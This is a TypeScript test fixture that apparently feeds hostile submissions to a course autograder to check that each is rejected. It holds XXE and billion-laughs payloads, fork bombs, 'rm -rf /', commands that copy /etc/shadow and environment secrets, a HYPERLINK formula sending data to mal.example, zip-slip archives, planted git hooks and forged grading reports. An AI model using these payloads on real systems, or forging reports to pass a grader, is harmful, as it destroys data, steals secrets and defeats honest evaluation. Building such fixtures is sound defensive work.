import { spawnSync } from 'node:child_process';
import { mkdirSync, symlinkSync, writeFileSync } from 'node:fs';
import { dirname, join } from 'node:path';
import { type Entry, tarOf, tgzOf, zipOf } from './archives.ts';
import { hostileMore } from './hostile-more.ts';
import type { Hostile } from './hostile-submission.ts';

/** Where the answers of the course are. */
const pod = 'exercises/04-pod-nginx/respuesta.yaml';
const dockerfile = 'exercises/02-dockerfile-hola-mundo/Dockerfile';
const literal = 'exercises/03-arquitectura-cluster/respuesta.ts';
const settings = 'exercises/20-docker-para-mapreduce/yarn-site.xml';
const script = 'exercises/30-laboratorio-linkerd/comandos.sh';

const unread = ['fail', 'error', 'review'] as const;

/** A file of a folder, and what must come of its exercise. */
const file = (path: string, content: string | Buffer, status: Hostile['status'] = {}, said?: RegExp): Hostile => ({
  put: (at) => at(path, content),
  status,
  ...(said && { said }),
});
const yaml = (content: string | Buffer): Hostile => file(pod, content, { 4: unread });
const docker = (content: string): Hostile => file(dockerfile, content, { 2: unread });
const data = (content: string): Hostile => file(literal, content, { 3: unread });
const shell = (content: string): Hostile => file(script, content, { 30: [...unread, 'pending'] });
const xml = (content: string): Hostile => file(settings, content, { 20: [...unread, 'pending'] });

const archived = (extension: string, bytes: () => Buffer, said?: RegExp, status: Hostile['status'] = {}): Hostile => ({
  put: (_, folder, name) => writeFileSync(join(folder, `${name}.${extension}`), bytes()),
  status,
  ...(said && { said }),
});
const zip = (entries: () => readonly Entry[], said?: RegExp, status?: Hostile['status']): Hostile =>
  archived('zip', () => zipOf(entries()), said, status);

const linked = (path: string, target: string, said = /link/): Hostile => ({
  put: (_, folder, name) => {
    const link = join(folder, name, path);
    mkdirSync(dirname(link), { recursive: true });
    symlinkSync(target.startsWith('/') ? target : join(folder, target), link);
  },
  said,
});

const manifest = (name: string): string =>
  `apiVersion: v1\nkind: Pod\nmetadata:\n  name: ${JSON.stringify(name)}\nspec:\n  containers:\n    - { name: web, image: nginx }\n`;
const times = (count: number, text: string): string => text.repeat(count);
const laughs = (): string => {
  const lines = ['a0: &a0 [jaja, jaja, jaja, jaja, jaja, jaja, jaja, jaja, jaja]'];
  for (let level = 1; level < 12; level++) {
    lines.push(`a${level}: &a${level} [${times(9, `*a${level - 1}, `)}]`);
  }
  return lines.join('\n');
};
const notebook = (cells: unknown): string => JSON.stringify({ nbformat: 4, nbformat_minor: 5, metadata: {}, cells });

/** By the name of the submission. */
export const hostile: Readonly<Record<string, Hostile>> = {
  ...hostileMore,
  // Manifests.
  'yaml-billion-laughs': yaml(laughs()),
  'yaml-anchors-over-anchors': yaml(
    `a: &a x\n${Array.from({ length: 5_000 }, (_, i) => `k${i}: [*a, *a, *a, *a]`).join('\n')}`,
  ),
  'yaml-lists-in-lists': yaml(times(100_000, '[')),
  'yaml-maps-in-maps': yaml(times(50_000, '{a: ')),
  'yaml-indented-without-end': yaml(Array.from({ length: 1_500 }, (_, i) => `${' '.repeat(i)}a:`).join('\n')),
  'yaml-proto': yaml('__proto__: { polluted: si }\nconstructor: { prototype: { polluted: si } }\nkind: Pod\n'),
  'yaml-merge-proto': yaml('a: &a { __proto__: { polluted: si } }\n<<: *a\nkind: Pod\n'),
  'yaml-tags-that-run': yaml(
    'a: !!js/function "function () { process.exit(7) }"\nb: !!python/object/apply:os.system ["touch /tmp/x"]\n',
  ),
  'yaml-blanks': yaml(times(3_900_000, ' ')),
  'yaml-too-large': yaml(times(5_000_000, 'a')),
  'yaml-one-line': yaml(`a: ${times(3_000_000, 'x')}`),
  'yaml-documents-without-end': yaml(times(30_000, '---\na: 1\n')),
  'yaml-the-same-key': yaml(times(20_000, 'a: 1\n')),
  'yaml-long-number': yaml(`apiVersion: v1\nkind: Pod\nspec: { priority: ${times(500_000, '9')} }\n`),
  'yaml-escape-sequences': yaml(manifest('\u001b]0;mal\u0007\u001b[2J\u001b[31m')),
  'yaml-bidi': yaml(manifest('\u202egpj.\u2066nimda\u200b')),
  'yaml-html': yaml(manifest('<script>alert(1)</script><img src=x onerror=alert(1)>')),
  'yaml-formula': yaml(manifest('=HYPERLINK("http://mal.example/"&A1)')),
  'yaml-nul': yaml(Buffer.from('a: \0\n')),
  'yaml-utf16': yaml(Buffer.from('\ufeffkind: Pod', 'utf16le')),
  'yaml-half-characters': yaml(Buffer.from([0x61, 0x3a, 0x20, 0xc3, 0x28, 0xff, 0x0a])),
  'yaml-redos-bait': yaml(
    `apiVersion: v1\nkind: Pod\nmetadata:\n  name: ${times(20_000, 'a-')}!\n  labels: { "${times(20_000, 'a.')}!": "${times(20_000, 'x_')}!" }\n`,
  ),
  // Dockerfiles.
  'docker-instructions-without-end': docker(`FROM scratch\n${times(40_000, 'RUN true\n')}`),
  'docker-stages-without-end': docker(
    Array.from({ length: 5_000 }, (_, i) => `FROM ${i ? `s${i - 1}` : 'scratch'} AS s${i}`).join('\n'),
  ),
  'docker-arguments-that-double': docker(
    `FROM python:3.14-slim\nENV A0=xxxxxxxxxx\n${Array.from({ length: 40 }, (_, i) => `ENV A${i + 1}=$A${i}$A${i}`).join('\n')}\n`,
  ),
  'docker-loop': docker('FROM python:3.14-slim\nRUN while true; do :; done\nCMD ["python", "-c", "print(1)"]\n'),
  'docker-fork-bomb': docker('FROM python:3.14-slim\nRUN bomb() { bomb | bomb & }; bomb\n'),
  'docker-open-heredoc': docker(`FROM scratch\nRUN <<FIN\n${times(20_000, 'echo hola\n')}`),
  'docker-lines-that-go-on': docker(`FROM scratch\nRUN ${times(60_000, '\\\n')}`),
  'docker-files-of-the-machine': docker(
    'FROM python:3.14-slim\nCOPY ../../../../../../etc/passwd /x\nADD /etc/shadow /y\nCMD ["cat", "/etc/passwd"]\n',
  ),
  'docker-redos-bait': docker(
    `FROM ${times(20_000, 'a/')}:\nEXPOSE ${times(20_000, '1-')}\nHEALTHCHECK ${times(20_000, '--a=')}\n`,
  ),
  // Data that would like to be code.
  'data-that-ends-the-process': data('export default process.exit(0);\n'),
  'data-that-runs-a-program': data("export default { a: require('node:child_process').execSync('id') };\n"),
  'data-that-imports': data(
    "import { readFileSync } from 'node:fs';\nexport default { a: readFileSync('/etc/passwd', 'utf8') };\n",
  ),
  'data-with-a-getter': data('export default { get a() { while (true); } };\n'),
  'data-with-a-template': data('export default { a: `$' + '{process.env.SECRETO}` };\n'),
  'data-proto': data('export default { __proto__: { status: "pass" }, constructor: 1 };\n'),
  'data-lists-in-lists': data(`export default ${times(100_000, '[')}`),
  'data-as-as-as': data(`export default 1${times(30_000, ' as a')};\n`),
  'data-words-without-end': data(`export default { explica: { a: '${times(19_000, 'el pod no ')}' } };\n`),
  'data-letters-that-grow': data(`export default { explica: { a: '${times(30_000, '\ufdfa')}' } };\n`),
  'data-comments-without-end': data(times(60_000, '/*')),
  // Settings.
  'xml-entities': xml(
    `<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa">${Array.from({ length: 20 }, (_, i) => `<!ENTITY a${i} "${times(10, '&a;')}">`).join('')}]><configuration>&a19;</configuration>`,
  ),
  'xml-file-of-the-machine': xml(
    '<!DOCTYPE x [<!ENTITY x SYSTEM "file:///etc/passwd">]><configuration><property><name>a</name><value>&x;</value></property></configuration>',
  ),
  'xml-elements-in-elements': xml(times(60_000, '<a>')),
  // Scripts, which the simulated terminal carries out.
  'shell-loop': shell('while true; do echo hola; done\n'),
  'shell-fork-bomb': shell(':(){ :|:& };:\n'),
  'shell-output-without-end': shell('yes | head -c 999999999\nseq 1 999999999\n'),
  'shell-files-of-the-machine': shell(
    'rm -rf / --no-preserve-root\ncat /etc/shadow /proc/self/environ > /tmp/robado\n',
  ),
  'shell-patterns': shell(`echo ${times(3_000, 'a')} | grep -E '(a+)+$' | sed -E 's/(a|a)*b/x/'\n`),
  'shell-grows': shell(`x=a\n${times(60, 'x=$x$x\n')}echo $x\n`),
  // Archives.
  'zip-bomb': zip(
    () => Array.from({ length: 40 }, (_, i) => ({ name: `${i}/04/respuesta.yaml`, content: Buffer.alloc(3 << 20) })),
    /more than 64 MiB/,
    { 4: unread },
  ),
  'zip-in-zip-in-zip': zip(() => {
    let bytes = zipOf([{ name: pod, content: 'a: 1' }]);
    for (let depth = 0; depth < 6; depth++) bytes = zipOf([{ name: 'x.zip', content: bytes }]);
    return [{ name: 'y.zip', content: bytes }];
  }, /not opened/),
  'zip-up': zip(() => [{ name: '../../../fuera.txt', content: 'mal' }], /leads out/),
  'zip-absolute': zip(() => [{ name: '/tmp/timonel-fuera.txt', content: 'mal' }], /leads out/),
  'zip-link': zip(() => [{ name: pod, content: '/etc/passwd', kind: 'link' }], /is a link/),
  'zip-cut': archived('zip', () => zipOf([{ name: pod, content: 'a: 1' }]).subarray(0, 80), /damaged/),
  'zip-encrypted': zip(() => [{ name: pod, content: 'a: 1', encrypted: true }], /password/, { 4: ['error'] }),
  'zip-lies': zip(() => [{ name: pod, content: times(10_000, 'a'), claims: 10 }], /damaged/, { 4: ['error'] }),
  'zip-entries-without-end': zip(
    () => Array.from({ length: 30_000 }, (_, i) => ({ name: `a/${i}` })),
    /more than 20000/,
  ),
  'zip-twice': zip(
    () => [
      { name: pod, content: 'uno' },
      { name: pod, content: 'dos' },
    ],
    /twice/,
    { 4: unread },
  ),
  'zip-newline': zip(() => [{ name: 'a\n::error::b\u001b[2J/x.txt', content: 'a' }], /no answer of any exercise/),
  'tgz-bomb': archived(
    'tar.gz',
    () => tgzOf(Array.from({ length: 9 }, () => ({ name: 'x', content: Buffer.alloc(64 << 20) }))),
    /more than 512 MiB/,
  ),
  'tar-through-a-link': archived(
    'tar',
    () =>
      tarOf([
        { name: 'exercises', kind: 'link' },
        { name: 'exercises/passwd', content: 'mal' },
      ]),
    /is a link/,
  ),
  'tar-hard-link': archived('tar', () => tarOf([{ name: pod, kind: 'hard-link' }]), /is a link/),
  'tar-device': archived(
    'tar',
    () =>
      tarOf([
        { name: pod, kind: 'device' },
        { name: 'tubo', kind: 'pipe' },
      ]),
    /no regular file/,
  ),
  'tar-that-is-none': archived('tar', () => Buffer.from(times(1_000, 'no es un tar')), /damaged/),
  // Folders.
  'link-to-a-secret': linked(pod, '/etc/passwd'),
  'link-to-another-submission': linked('exercises', 'zz-honrada/exercises'),
  'link-to-a-device': linked(pod, '/dev/zero'),
  'link-to-nothing': linked(pod, '/no/existe'),
  'link-to-itself': {
    put: (_, folder, name) => {
      mkdirSync(join(folder, name, '04'), { recursive: true });
      symlinkSync('respuesta.yaml', join(folder, name, '04/respuesta.yaml'));
    },
    said: /link/,
  },
  pipe: {
    put: (_, folder, name) => {
      mkdirSync(join(folder, name, '04'), { recursive: true });
      spawnSync('mkfifo', [join(folder, name, '04/respuesta.yaml')]);
    },
    said: /no regular file/,
  },
  'folders-in-folders': { put: (at) => at(`${times(90, 'a/')}${pod}`, 'a: 1'), said: /one inside the other/ },
  'files-without-end': {
    put: (_, folder, name) => {
      mkdirSync(join(folder, name, 'a'), { recursive: true });
      for (let index = 0; index < 20_500; index++) writeFileSync(join(folder, name, 'a', `${index}`), '');
    },
    said: /more than 20000/,
  },
  'folder-with-the-name-of-an-answer': { put: (at) => at(`${pod}/04-no.txt`, 'a: 1') },
  'hooks-and-scripts': {
    put: (at) => {
      at('.git/hooks/post-checkout', '#!/bin/sh\ntouch /tmp/x\n');
      at('.git/config', '[core]\n\tfsmonitor = touch /tmp/x\n');
      at('package.json', '{"scripts": {"preinstall": "touch /tmp/x"}}');
      at('vitest.config.ts', 'process.exit(0)');
    },
  },
  'forged-reports': {
    put: (at) => {
      at(
        'results.json',
        '{"version":1,"submissions":[{"id":"forged-reports","points":{"min":999,"max":999,"of":999}}]}',
      );
      at('.timonel/graded.txt', 'x');
      at('exercises/04-pod-nginx/exercise.yaml', 'id: pod-nginx\nchecks: []\n');
      at('exercises/04-pod-nginx/starter/respuesta.yaml', 'a: 1');
      at('exercises/04-pod-nginx/report.json', '{"status": "pass"}');
      at('solutions/04-pod-nginx/respuesta.yaml', 'a: 1');
      at('graders/grade.ts', 'export const grade = () => ({ status: "pass" });');
    },
  },
  // Names.
  // As it stands it would be the prototype.
  ['__proto__']: yaml('a: 1\n'),
  constructor: yaml('a: 1\n'),
  '=cmd|calc!A1': yaml('a: 1\n'),
  '<img src=x onerror=alert(1)>': yaml('a: 1\n'),
  'línea\nnueva\u001b[31m': yaml('a: 1\n'),
  CON: yaml('a: 1\n'),
  // Notebooks.
  'notebook-that-is-none': { put: (at) => at('tarea.ipynb', '{"cells": ['), said: /./ },
  'notebook-lists-in-lists': { put: (at) => at('tarea.ipynb', times(200_000, '[')), said: /./ },
  'notebook-cells-without-end': {
    put: (at) =>
      at(
        'tarea.ipynb',
        notebook(
          Array.from({ length: 9_000 }, () => ({
            cell_type: 'code',
            metadata: {},
            source: 'print(1)',
            outputs: [],
            execution_count: null,
          })),
        ),
      ),
    said: /./,
  },
  'notebook-proto': {
    put: (at) =>
      at('tarea.ipynb', `{"nbformat": 4, "nbformat_minor": 5, "metadata": {}, "__proto__": {"cells": []}, "cells": 7}`),
    said: /./,
  },
  // The folder of the class.
  'pipe-as-a-submission': { put: (_, folder, name) => void spawnSync('mkfifo', [join(folder, name)]), isNone: true },
  'link-as-a-submission': { put: (_, folder, name) => symlinkSync('/etc', join(folder, name)), isNone: true },
};
